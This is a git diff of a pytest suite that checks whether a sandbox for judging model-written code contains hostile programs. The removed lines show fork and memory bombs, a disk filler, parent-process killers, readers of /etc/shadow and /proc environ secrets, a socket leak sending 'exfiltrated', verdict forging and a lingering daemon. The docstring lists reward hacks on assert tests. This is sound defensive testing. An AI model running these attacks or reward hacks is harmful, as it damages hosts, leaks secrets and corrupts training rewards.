@@ -1,31 +1,44 @@
 """Hostile programs end contained: the harness survives, the reward is a failure, nothing outside changes.
 
-Each program below attacks one thing (processes, memory, CPU, output, disk, network, files, environment,
-the parent, the repository, the verdict itself). The reward judge must return -1 for each, the pytest
-process must live on, and canaries outside the sandbox must be unread and unchanged.
+The cases (``hostile_programs.py``) are reward hacks on assert tests (early exits, exception hooks, forged verdict
+lines, ``__eq__`` overrides, peeking at the expected values) and attacks on the machine (processes, memory, CPU,
+output, disk, network, files, environment, the parent, the repository, the runner's verdict). All of them are
+judged in one batch and must score -1; each case's control shows the attack is real: the earlier judge passes
+the hacks, and the machine attacks do read, leak, connect, write, flood or outlive their parent when run
+unsandboxed (bounded, aimed at scratch folders or a throwaway parent).
 """
 from __future__ import annotations
 
 import os
+import re
 import secrets
+import select
 import shutil
 import socket
+import subprocess
+import sys
+import tempfile
 import threading
 import time
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
+import hostile_programs as hp
 import pytest
 
 from klear_lib.paths import REPO
-from klear_lib.rewards.code import code_reward, code_rewards
+from klear_lib.rewards import code as cj
+from klear_lib.rewards import sandbox
 
 pytestmark = [pytest.mark.firejail,
               pytest.mark.skipif(shutil.which("firejail") is None, reason="firejail is not installed")]
 
-TESTS = [{"input": "1\n", "output": "2\n"}]  # no hostile program prints 2
 SECRET = "klear-canary-" + secrets.token_hex(8)
 CANARY_NAME = f".klear_canary_{secrets.token_hex(4)}"
 PWNED = REPO / f"pwned_{secrets.token_hex(4)}.txt"
+ROOT_ONLY_CONTROLS = {"fork_bomb", "setuid_shadow"}  # what they show (root ignores RLIMIT_NPROC) needs root
+IS_ROOT = os.geteuid() == 0
+GOOD, GOOD_COPIES = "print(int(input()) + 1)", 3
 
 
 def respond(program: str) -> str:
@@ -73,162 +86,118 @@ def listener():
     srv.close()
 
 
-FORK_BOMB = """import os
-while True:
-    try:
-        os.fork()
-    except OSError:
-        pass"""
-MEMORY_BOMB = """chunks = []
-while True:
-    chunks.append(bytearray(64 << 20))"""
-INFINITE_LOOP = "while True:\n    pass"
-ENDLESS_OUTPUT = "while True:\n    print('x' * 4096)"
-DISK_FILLER = """import os
-block = b'0' * (1 << 20)
-for d in ['.', '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '/run/lock', '/var/log', '/']:
-    for i in range(64):
-        try:
-            with open(os.path.join(d, f'fill_{i}'), 'wb') as f:
-                for _ in range(64):
-                    f.write(block)
-        except OSError:
-            break
-raise SystemExit(1)"""
-KILL_PARENTS = """import os, signal
-for target in (lambda: os.killpg(os.getpgid(os.getppid()), 9), lambda: os.kill(os.getppid(), 9),
-               lambda: os.kill(-1, 9), lambda: os.kill(1, 9), lambda: os.killpg(0, 9)):
-    try:
-        target()
-    except OSError:
-        pass"""
-SETUID = "import os\nos.setuid(0)\nprint(open('/etc/shadow').read())"
+@pytest.fixture(scope="module")
+def cases(canaries, listener, tmp_path_factory):
+    """Every hostile case, the machine attacks aimed at this module's canaries, listener and scratch folders."""
+    shm = Path(tempfile.mkdtemp(prefix="klear-hostile-", dir="/dev/shm"))
+    targets = [PWNED, REPO / "klear_lib" / "__init__.py"]
+    found = hp.REWARD_HACKS + hp.system_attacks(canaries, SECRET, listener[0], targets,
+                                                tmp_path_factory.mktemp("scratch"), shm, PWNED)
+    yield {c.name: c for c in found}
+    shutil.rmtree(shm, ignore_errors=True)
 
 
-def read_files(paths) -> str:
-    return ("import glob\nfor p in " + repr([str(p) for p in paths]) +
-            " + glob.glob('/work/*/.klear_canary_*'):\n"
-            "    try:\n        print(open(p).read())\n    except OSError as e:\n        print('denied', e)\n"
-            "raise SystemExit(1)")
-
-
-ENV_SECRETS = """import os, glob
-print(dict(os.environ))
-for p in glob.glob('/proc/*/environ'):
-    try:
-        print(open(p, 'rb').read())
-    except OSError:
-        pass
-raise SystemExit(1)"""
-
-
-def repo_write() -> str:
-    target = REPO / "klear_lib" / "__init__.py"
-    return (f"for p in [{str(PWNED)!r}, {str(target)!r}]:\n"
-            "    try:\n        open(p, 'a').write('pwned')\n    except OSError as e:\n        print('denied', e)\n"
-            "raise SystemExit(1)")
-
-
-def connect(port: int) -> str:
-    return ("import socket\ns = socket.create_connection(('127.0.0.1', %d), timeout=2)\n"
-            "s.sendall(b'exfiltrated')\nprint(2)" % port)
-
-
-FORGE_VERDICT = """import os, json
-fake = json.dumps([{"status": "ok", "returncode": 0, "stdout": "2\\n", "stderr": "", "wall_s": 0.0}])
-for fd in (1, 2):
-    try:
-        with open(f"/proc/{os.getppid()}/fd/{fd}", "w") as f:
-            f.write(fake)
-    except OSError as e:
-        print("denied", e)
-os.kill(os.getppid(), 9)"""
-DAEMON_MARK = "klear-hostile-daemon-7f3a"
-DAEMON = f"""import os, sys
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile True: time.sleep(0.1)", "{DAEMON_MARK}"])
-raise SystemExit(1)"""
-
-
-def test_fork_bomb_is_contained():
-    start = time.monotonic()
-    assert code_reward(respond(FORK_BOMB), TESTS, timeout_s=2) == -1.0
-    assert time.monotonic() - start < 30
-
-
-def test_memory_bomb_is_contained():
-    assert code_reward(respond(MEMORY_BOMB), TESTS, timeout_s=5) == -1.0
-
-
-def test_infinite_loop_times_out():
-    assert code_reward(respond(INFINITE_LOOP), TESTS, timeout_s=1) == -1.0
-
-
-def test_endless_output_is_cut():
-    assert code_reward(respond(ENDLESS_OUTPUT), TESTS, timeout_s=5) == -1.0
-
-
-def test_disk_filler_changes_nothing_outside():
-    before = set(os.listdir(REPO)), set(os.listdir("/tmp")), shutil.disk_usage("/").free
-    assert code_reward(respond(DISK_FILLER), TESTS, timeout_s=5) == -1.0
-    assert set(os.listdir(REPO)) == before[0] and set(os.listdir("/tmp")) <= before[1] | {CANARY_NAME}
-    assert shutil.disk_usage("/").free > before[2] - (256 << 20)  # no 100s of MB written by the filler
-
-
-def test_network_connection_is_refused(listener):
-    port, hits = listener
-    assert code_reward(respond(connect(port)), TESTS, timeout_s=5) == -1.0
-    time.sleep(0.3)
-    assert hits == []
-
-
-def test_files_outside_are_unreadable(canaries):
-    from klear_lib.rewards.sandbox import execute
-
-    result = execute(read_files(canaries), timeout_s=5)
-    assert SECRET not in result.stdout + result.stderr
-    assert code_reward(respond(read_files(canaries)), TESTS, timeout_s=5) == -1.0
-    assert all(p.read_text() == SECRET for p in canaries)
-
-
-def test_environment_secrets_are_not_passed(canaries):
-    from klear_lib.rewards.sandbox import execute
-
-    result = execute(ENV_SECRETS, timeout_s=5)
-    assert "KLEAR_CANARY_SECRET" not in result.stdout and SECRET not in result.stdout + result.stderr
-
-
-def test_killing_the_parent_group_leaves_the_harness_alive():
-    pgid = os.getpgrp()
-    assert code_reward(respond(KILL_PARENTS), TESTS, timeout_s=5) == -1.0
-    assert os.getpgrp() == pgid and os.getpid() > 0
-    assert code_reward(respond("print(int(input()) + 1)"), TESTS, timeout_s=5) == 1.0  # still works
-
-
-def test_repository_is_read_only():
+@pytest.fixture(scope="module")
+def judged(cases, listener):
+    """All cases judged in one batch (two sandboxes at a time), with what the machine looked like around it."""
     init = REPO / "klear_lib" / "__init__.py"
-    before = init.read_bytes()
-    assert code_reward(respond(repo_write()), TESTS, timeout_s=5) == -1.0
-    assert not PWNED.exists() and init.read_bytes() == before
+    before = {"repo": set(os.listdir(REPO)), "init": init.read_bytes(), "shm": shutil.disk_usage("/dev/shm").used,
+              "free": shutil.disk_usage("/").free, "pgid": os.getpgrp()}
+    start = time.monotonic()
+    names = [*cases, *(f"good_{i}" for i in range(GOOD_COPIES))]  # honest programs beside them (sandboxed in parallel)
+    programs = [c.program for c in cases.values()] + [GOOD] * GOOD_COPIES
+    tests = [c.tests for c in cases.values()] + [hp.TESTS] * GOOD_COPIES
+    order = sorted(range(len(names)), key=lambda i: (i % 10, i))  # the good ones run amid the attacks
+    found = cj.code_rewards([respond(programs[i]) for i in order], [tests[i] for i in order], timeout_s=3, workers=2)
+    scores = {names[i]: s for i, s in zip(order, found)}
+    time.sleep(0.3)  # let the listener record a late connection, if any
+    after = {"repo": set(os.listdir(REPO)), "init": init.read_bytes(), "shm": shutil.disk_usage("/dev/shm").used,
+             "free": shutil.disk_usage("/").free, "pgid": os.getpgrp()}
+    return scores, before, after, time.monotonic() - start
 
 
-def test_setuid_and_shadow_are_denied():
-    assert code_reward(respond(SETUID), TESTS, timeout_s=5) == -1.0
+def test_the_suite_has_thirty_cases_each_with_a_control(cases):
+    assert len(cases) >= 30 and all(c.control for c in cases.values())
 
 
-def test_verdict_cannot_be_forged():
-    assert code_reward(respond(FORGE_VERDICT), TESTS, timeout_s=5) == -1.0
+def test_every_hostile_program_scores_minus_one(judged):
+    scores = judged[0]
+    assert {name: s for name, s in scores.items() if s != -1.0 and not name.startswith("good_")} == {}
 
 
-def test_daemon_does_not_outlive_its_test():
-    """A double-forked daemon of test 1 is reaped before test 2 and gone after the sandbox ends."""
-    tests = TESTS * 3
-    assert code_reward(respond(DAEMON), tests, timeout_s=2) == -1.0
-    time.sleep(0.5)
-    # only this test's daemon (marked in its argv): sandboxes of other runs on the machine may be alive
-    assert not [p for p in os.listdir("/proc") if p.isdigit() and DAEMON_MARK in _cmdline(p)]
+def test_hostile_programs_cost_only_their_own_reward(judged):
+    """Fork bombs, memory bombs and floods in the other sandbox do not fail honest programs beside them."""
+    assert [s for name, s in judged[0].items() if name.startswith("good_")] == [1.0] * GOOD_COPIES
+
+
+def test_secrets_stay_unread(cases):
+    """What the readers print inside the sandbox holds no canary, no parent environment and no shadow file."""
+    for name in ("read_files", "environment_secrets", "setuid_shadow"):
+        result = sandbox.execute(cases[name].program, timeout_s=5)
+        assert SECRET not in result.stdout + result.stderr and "root:" not in result.stdout, name
+
+
+def test_nothing_outside_the_sandbox_changed(judged, canaries, listener):
+    _, before, after, _ = judged
+    assert after["repo"] == before["repo"] and after["init"] == before["init"] and not PWNED.exists()
+    assert after["free"] > before["free"] - (256 << 20)  # the disk filler wrote no 100s of MB
+    assert after["shm"] < before["shm"] + (64 << 20)  # nor did the /dev/shm filler, on the host's /dev/shm
+    assert after["pgid"] == before["pgid"] and all(p.read_text() == SECRET for p in canaries)
+    assert listener[1] == []
+    assert not [p for p in os.listdir("/proc") if p.isdigit() and hp.DAEMON_MARK in _cmdline(p)]
+
+
+def test_the_harness_still_judges_after_the_batch(judged):
+    assert cj.code_reward(respond("print(int(input()) + 1)"), hp.TESTS, timeout_s=5) == 1.0
+
+
+def _old_rule_passes(program: str, test: dict) -> bool:
+    """The earlier judge of an assert test: program and check code in one process, exit status 0 is a pass."""
+    return sandbox.execute(cj.PRELUDE + program + "\n\n" + test["code"], "", timeout_s=3).status == "ok"
+
+
+def test_reward_hacks_passed_the_earlier_judge(cases):
+    hacks = [c for c in cases.values() if c.control == "old_rule"]
+    with ThreadPoolExecutor(2) as pool:
+        passed = list(pool.map(lambda c: _old_rule_passes(c.program, c.tests[0]), hacks))
+    assert len(hacks) >= 14 and {c.name for c, ok in zip(hacks, passed) if not ok} == set()
+
+
+def test_honest_solutions_still_pass_the_asserts():
+    ok = "class Solution:\n    def total(self, nums):\n        return sum(nums)\n"
+    rev = ("class Solution:\n    def reverseList(self, head):\n        prev = None\n        while head:\n"
+           "            head.next, prev, head = prev, head, head.next\n        return prev\n")
+    lists = [{"input": "", "output": "", "kind": "assert", "code": hp.LIST_CHECK}]
+    assert cj.code_rewards([respond(ok), respond(rev)], [hp.ASSERTS, lists]) == [1.0, 1.0]
+
+
+def _run_plain(program: str, cwd: Path, wait_s: float = 2.0) -> str:
+    """``program`` unsandboxed under a throwaway ``sh`` (its parent), output read up to 4 MiB or ``wait_s``; notes
+    what happened in brackets: still running, over 4 MiB, parent killed, a daemon left alive (then killed)."""
+    proc = subprocess.Popen(["/bin/sh", "-c", '"$0" -c "$1"; echo "[parent lived]"', sys.executable, program],
+                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, cwd=cwd, start_new_session=True)
+    data, eof, deadline = bytearray(), False, time.monotonic() + wait_s
+    while not eof and len(data) <= 4 << 20 and time.monotonic() < deadline:
+        if select.select([proc.stdout], [], [], 0.1)[0]:
+            chunk = os.read(proc.stdout.fileno(), 1 << 16)
+            eof, data = not chunk, data + chunk
+    notes = ["[over 4 MiB]"] if len(data) > 4 << 20 else [] if eof else ["[still running]"]
+    rc = proc.poll()
+    _kill_group(proc.pid)
+    proc.wait()
+    proc.stdout.close()
+    notes += ["[parent killed]"] if eof and rc == -9 else []
+    daemons = [p for p in os.listdir("/proc") if p.isdigit() and hp.DAEMON_MARK in _cmdline(p)]
+    for pid in daemons:  # started by this control only (the mark is in its argv)
+        os.kill(int(pid), 9)
+    return data.decode(errors="replace") + "".join(notes) + ("[daemon alive]" if daemons else "")
+
+
+def _kill_group(pgid: int) -> None:
+    try:
+        os.killpg(pgid, 9)
+    except ProcessLookupError:
+        pass
 
 
 def _cmdline(pid: str) -> str:
@@ -238,31 +207,52 @@ def _cmdline(pid: str) -> str:
         return ""
 
 
-def test_hostile_programs_cost_only_their_own_reward():
-    """Parallel sandboxes: a fork bomb and a memory bomb beside correct programs do not fail them."""
-    good = respond("print(int(input()) + 1)")
-    batch = [respond(FORK_BOMB), good, respond(MEMORY_BOMB), good, respond(INFINITE_LOOP), good]
-    scores = code_rewards(batch, [TESTS] * len(batch), timeout_s=3, workers=3)
-    assert scores == [-1.0, 1.0, -1.0, 1.0, -1.0, 1.0]
-
-
-def test_the_attacks_work_without_the_sandbox(canaries, listener, tmp_path):
-    """Control: outside the sandbox the same programs do read, leak, connect and write (so the tests above bite)."""
-    import subprocess
-    import sys
-
-    def run(src: str) -> str:
-        return subprocess.run([sys.executable, "-c", src], capture_output=True, text=True, timeout=20).stdout
-
-    port, hits = listener
-    assert SECRET in run(read_files(canaries))
-    assert SECRET in run(ENV_SECRETS)
-    run(connect(port))
-    time.sleep(0.3)
-    assert hits and "exfiltrated" in hits[-1]
-    hits.clear()
+def test_machine_attacks_work_unsandboxed(cases, listener, tmp_path):
+    """Controls: each machine attack's bounded twin does harm outside the sandbox (so the -1 above bites)."""
+    failed = []
     try:
-        run(f"open({str(PWNED)!r}, 'w').write('pwned')")
-        assert PWNED.exists()
+        for case in cases.values():
+            if not isinstance(case.control, tuple) or (case.name in ROOT_ONLY_CONTROLS and not IS_ROOT):
+                continue
+            program, shows = case.control
+            if not shows(_run_plain(program, tmp_path)):
+                failed.append(case.name)
+        assert failed == [] and listener[1] and "exfiltrated" in listener[1][-1]
     finally:
+        listener[1].clear()
         PWNED.unlink(missing_ok=True)
+
+
+def _held(result: sandbox.ExecutionResult) -> int:
+    """How many of ``MEMORY_ACROSS``'s children held their 600 MiB to the end."""
+    found = re.search(r"held (\d)", result.stdout)
+    return int(found.group(1)) if found else 0
+
+
+@pytest.mark.skipif(sandbox.memory_cgroup_available() is False, reason="no writable memory cgroup here")
+def test_memory_is_capped_across_processes():
+    """3 x 600 MiB: all three held at once without the cgroup (the earlier scheme), at most two with it."""
+    capped = sandbox.execute(hp.MEMORY_ACROSS, timeout_s=10)
+    uncapped = sandbox.execute(hp.MEMORY_ACROSS, timeout_s=10, limits=sandbox.SandboxLimits(total_memory=None))
+    assert _held(capped) <= 2 and _held(uncapped) == 3
+
+
+@pytest.mark.skipif(sandbox.memory_cgroup_available() is False, reason="no writable memory cgroup here")
+def test_dev_shm_is_private_and_bounded():
+    """A 2 GiB /dev/shm filler stops below the sandbox's 1.5 GiB cap, and nothing reaches the host's /dev/shm."""
+    before = shutil.disk_usage("/dev/shm").used
+    result = sandbox.execute(hp.SHM_FILLER.format(mib=2048, folder="/dev/shm"), timeout_s=20)
+    written = max([int(n) for n in re.findall(r"wrote (\d+)", result.stdout)] or [0])
+    assert 0 < written < 1536 and shutil.disk_usage("/dev/shm").used < before + (64 << 20)
+
+
+POOL = ("from multiprocessing import Pool\n\nclass Solution:\n    def total(self, nums):\n"
+        "        with Pool(2) as pool:\n            return sum(pool.map(abs, nums))\n")
+
+
+@pytest.mark.skipif(sandbox.memory_cgroup_available() is False, reason="no writable memory cgroup here")
+def test_multiprocessing_pool_works():
+    """Legitimate ``multiprocessing.Pool`` code passes; with the earlier read-only /dev/shm it failed."""
+    assert cj.code_reward(respond(POOL), hp.ASSERTS, timeout_s=10) == 1.0
+    earlier = sandbox.SandboxLimits(total_memory=None)
+    assert not cj.run_tests(POOL, hp.ASSERTS, timeout_s=10, limits=earlier)[0]
